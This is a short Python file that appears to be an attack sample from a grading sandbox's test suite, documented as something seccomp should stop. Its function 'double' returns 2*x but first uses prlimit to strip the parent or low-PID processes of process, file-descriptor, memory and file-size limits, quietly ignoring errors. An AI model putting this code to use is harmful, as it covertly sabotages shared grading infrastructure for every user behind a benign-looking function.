"""Takes descriptors, processes and CPU time away from its parent, by the limits of another process.

Claim: from then on no submission can be started, and everybody's grading fails
Class: other processes
Stopped by: seccomp refuses the call
"""

import os
import resource


def double(x):
    for pid in range(1, 5) if os.getppid() < 5 else (os.getppid(),):
        for what in (resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_FSIZE):
            if pid != os.getpid():
                try:
                    resource.prlimit(pid, what, (1, 1))
                except OSError:
                    pass
    return 2 * x
